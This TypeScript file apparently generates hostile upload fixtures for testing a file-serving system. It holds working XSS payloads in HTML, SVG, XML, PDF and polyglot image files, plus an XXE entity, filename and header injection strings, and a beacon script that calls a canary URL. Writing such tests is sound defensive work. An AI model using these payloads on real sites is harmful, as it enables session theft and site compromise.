/** What people have put into files so that a browser runs it in the name of whoever serves them. */

export interface Hostile {
  readonly id: string;
  /** Path in its version, as it is, not encoded. */
  readonly path: string;
  /** What the uploader says it is. */
  readonly claimed: string;
  readonly content: Buffer;
}

interface Kind {
  readonly extension: string;
  readonly type: string;
  readonly content: Content;
}

type Content = (script: string, canary: string) => string | Buffer;

const ascii = (text: string) => Buffer.from(text, 'latin1');
const page = (script: string) => `<!doctype html><html><body><script>${script}</script></body></html>`;
const xml = (script: string) => script.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const big = (text: string) => Buffer.from(text, 'utf16le').swap16();

/** As the type that it was made for, each of these runs or calls home. */
const KINDS: readonly Kind[] = [
  { extension: 'html', type: 'text/html', content: page },
  { extension: 'htm', type: 'text/html', content: (js) => `<img src=x onerror="${js}">` },
  { extension: 'shtml', type: 'text/html', content: (js) => `<!--#include file="x" --><body onload="${js}">` },
  { extension: 'html', type: 'text/html', content: (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>` },
  { extension: 'html', type: 'text/html', content: (_, url) => `<meta http-equiv=refresh content="0;url=${url}">` },
  { extension: 'html', type: 'text/html', content: (_, url) => `<base href="${url}/"><script src=x></script>` },
  { extension: 'html', type: 'text/html', content: (_, url) => `<link rel=stylesheet href="${url}"><p>` },
  { extension: 'html', type: 'text/html', content: (js) => `<object data="data:text/html,<script>${js}</script>">` },
  { extension: 'html', type: 'text/html', content: (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>` },
  { extension: 'html', type: 'text/html', content: (js) => `<math><mi><script>${js}</script></mi></math>` },
  { extension: 'html', type: 'text/html', content: (js) => `<details open ontoggle="${js}">` },
  { extension: 'html', type: 'text/html', content: (js) => `<input autofocus onfocus="${js}">` },
  {
    extension: 'html',
    type: 'text/html',
    content: (js) => `<a href="javascript:${js}" id=a></a><script>a.click()</script>`,
  },
  {
    extension: 'html',
    type: 'text/html',
    content: (_, url) => `<form action="${url}"></form><script>document.forms[0].submit()</script>`,
  },
  { extension: 'html', type: 'text/html', content: (js) => `${' '.repeat(2_000)}${page(js)}` },
  { extension: 'html', type: 'text/html', content: (js) => `\uFEFF${page(js)}` },
  { extension: 'html', type: 'text/html', content: (js) => Buffer.from(`\uFEFF${page(js)}`, 'utf16le') },
  { extension: 'html', type: 'text/html', content: (js) => big(`\uFEFF${page(js)}`) },
  { extension: 'txt', type: 'text/html; charset=utf-7', content: (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-` },
  { extension: 'txt', type: 'text/html; charset=iso-2022-jp', content: (js) => `\x1B(B<script>${js}</script>` },
  { extension: 'txt', type: 'text/plain', content: (js) => `<html><head><script>${js}</script>` },
  {
    extension: 'xhtml',
    type: 'application/xhtml+xml',
    content: (js) => `<html xmlns="http://www.w3.org/1999/xhtml"><script>${xml(js)}</script></html>`,
  },
  {
    extension: 'xht',
    type: 'application/xhtml+xml',
    content: (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${xml(js)}</x:script>`,
  },
  {
    extension: 'svg',
    type: 'image/svg+xml',
    content: (js) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${xml(js)}</script></svg>`,
  },
  {
    extension: 'svg',
    type: 'image/svg+xml',
    content: (js) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${xml(js)}"/>`,
  },
  {
    extension: 'svg',
    type: 'image/svg+xml',
    content: (js) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${xml(js)}"/><script xmlns="http://www.w3.org/1999/xhtml">${xml(js)}</script></foreignObject></svg>`,
  },
  {
    extension: 'xml',
    type: 'text/xml',
    content: (js) =>
      `<?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>${xml(js)}</script></xsl:template></xsl:stylesheet></d>`,
  },
  {
    extension: 'xml',
    type: 'application/xml',
    content: (_, url) => `<!DOCTYPE d [<!ENTITY e SYSTEM "${url}">]><d>&e;</d>`,
  },
  {
    extension: 'xsl',
    type: 'text/xsl',
    content: (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${xml(js)}</x:script>`,
  },
  {
    extension: 'rss',
    type: 'application/rss+xml',
    content: (js) =>
      `<rss><channel><x:script xmlns:x="http://www.w3.org/1999/xhtml">${xml(js)}</x:script></channel></rss>`,
  },
  {
    extension: 'mhtml',
    type: 'multipart/related',
    content: (js) =>
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${page(js)}\r\n--b--\r\n`,
  },
  {
    extension: 'eml',
    type: 'message/rfc822',
    content: (js) => `From: a@b.c\r\nContent-Type: text/html\r\n\r\n${page(js)}`,
  },
  {
    extension: 'pdf',
    type: 'application/pdf',
    content: (js) =>
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${js.replaceAll(/[()]/g, '\\$&')})>>>>endobj\ntrailer<</Root 1 0 R>>`,
  },
  { extension: 'pdf', type: 'application/pdf', content: (js) => `%PDF-1.4\n${page(js)}` },
  { extension: 'js', type: 'text/javascript', content: (js) => js },
  { extension: 'mjs', type: 'text/javascript', content: (js) => `export {}; ${js}` },
  { extension: 'json', type: 'application/json', content: (js) => `0;${js}` },
  { extension: 'json', type: 'application/json', content: (js) => JSON.stringify({ a: page(js) }) },
  { extension: 'css', type: 'text/css', content: (_, url) => `@import "${url}"; body { background: url("${url}") }` },
  { extension: 'gif', type: 'image/gif', content: (js) => ascii(`GIF89a/*\x01\x00\x00\x00*/=1;${js}`) },
  { extension: 'gif', type: 'text/html', content: (js) => ascii(`GIF89a\x01\x00\x01\x00${page(js)}`) },
  { extension: 'png', type: 'text/html', content: (js) => ascii(`\x89PNG\r\n\x1A\n${page(js)}`) },
  { extension: 'jpg', type: 'text/html', content: (js) => ascii(`\xFF\xD8\xFF\xE0${page(js)}`) },
  { extension: 'zip', type: 'text/html', content: (js) => ascii(`PK\x03\x04${page(js)}`) },
  { extension: 'tgz', type: 'text/html', content: (js) => ascii(`\x1F\x8B\x08\x00${page(js)}`) },
  { extension: 'bmp', type: 'text/javascript', content: (js) => `BM=1;${js}` },
  { extension: 'swf', type: 'text/html', content: (js) => `FWS\t${page(js)}` },
  { extension: 'bin', type: 'text/html', content: (js) => `\0\0\0${page(js)}` },
  { extension: 'url', type: 'text/html', content: (js) => `[InternetShortcut]\nURL=javascript:${js}\n${page(js)}` },
  { extension: 'hta', type: 'application/hta', content: page },
  { extension: 'wat', type: '', content: page },
];

/** Each kind is also called each of these, in turns: the name and the content say different things. */
const OTHER_NAMES = [
  'html',
  'svg',
  'txt',
  'json',
  'png',
  'xht',
  'js',
  'md',
  '',
  'HTML',
  'html.txt',
  'txt.html',
  'svgz',
  'html.',
  'pdf',
  'mht',
  'xml',
  'log',
  'htm',
  'asc',
  'gif',
  'shtml',
];
const OTHER_TYPES = [
  'text/html',
  'image/svg+xml',
  'application/xhtml+xml',
  'text/html; charset=utf-7',
  'text/xml',
  'text/html, image/png',
  'image/png; x="<script>"',
  '*/*',
];
const NAMES_EACH = 5;

/** Whoever lists these, or repeats them in a header, says something else than a name. */
const NAMES: readonly ((script: string, canary: string) => string)[] = [
  (js) => `<script>${js}<`,
  (js) => `"><img src=x onerror="${js}">.html`,
  (js) => `' onmouseover='${js}' autofocus onfocus='${js}' tabindex=1 x='.html`,
  (js) => `<svg onload=${js.replaceAll(' ', '')}>.svg`,
  (js) => `javascript:${js}`,
  (js) => `data:text/html,<body onload=${js}>`,
  (js) => `&#60;img src=x onerror=${js}&#62;`,
  (js) => `%3Cimg src=x onerror=${js}%3E.html`,
  (js) => `<style><img src="<`.concat(`x" onerror="${js}">`),
  (js) => `<title><textarea><noscript><img src=x onerror=${js}>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  () => 'x.txt"; filename="y.html',
  () => "x.txt; filename*=UTF-8''y.html",
  () => 'inline; x.html',
  () => '<!doctype html>',
  () => '＜script＞.html',
  () => 'ſvg onload=x.html',
  () => '?x=<b>#<i>.html',
  () => '{{constructor.constructor(1)()}}.html',
  () => '${1}`.html',
  () => 'SHA256SUMS.html',
  () => 'index.html',
  () => 'sw.js',
  () => 'crossdomain.xml',
  () => '-->.html',
  () => '<a>/<b>/c.html',
  () => '"/onload=x/index.html',
];

/** @param canary where a script of the id calls */
export function hostiles(canary: (id: string) => string): Hostile[] {
  const made: Hostile[] = [];
  const add = (id: string, path: string, claimed: string, content: Content) => {
    made.push({ id, path, claimed, content: Buffer.from(content(scriptOf(id, canary(id)), canary(id))) });
  };
  KINDS.forEach(({ extension, type, content }, kind) => {
    add(`k${kind}`, `kinds/k${kind}.${extension}`, type, content);
    for (let i = 0; i < NAMES_EACH; i++) {
      const turn = kind * NAMES_EACH + i;
      const name = OTHER_NAMES[turn % OTHER_NAMES.length];
      const claimed = i === 0 ? type : (OTHER_TYPES[turn % OTHER_TYPES.length] as string);
      add(`k${kind}-${i}`, `others/k${kind}-${i}${name && `.${name}`}`, claimed, content);
    }
  });
  NAMES.forEach((name, i) => {
    // A name cannot have slashes, and few browsers call out without them: the script of the page it is on does.
    const path = name(`window.__pwn='n${i}',alert('n${i}')`, canary(`n${i}`));
    add(`n${i}`, `names/${path}`, 'text/html', page);
  });
  return made;
}

/** Says that it ran in every way that a page has, the one that waits for a person last. Without quotes of the double kind. */
function scriptOf(id: string, url: string): string {
  return `window.__pwn='${id}';new Image().src='${url}';fetch('${url}',{mode:'no-cors'});alert('${id}')`;
}

/** What a browser does with these when nobody protects it: each of them calls home. */
export const LIVE = KINDS.flatMap(({ extension }, kind) =>
  ['html', 'htm', 'shtml', 'xhtml', 'xht', 'svg'].includes(extension) ? [`k${kind}`] : [],
);
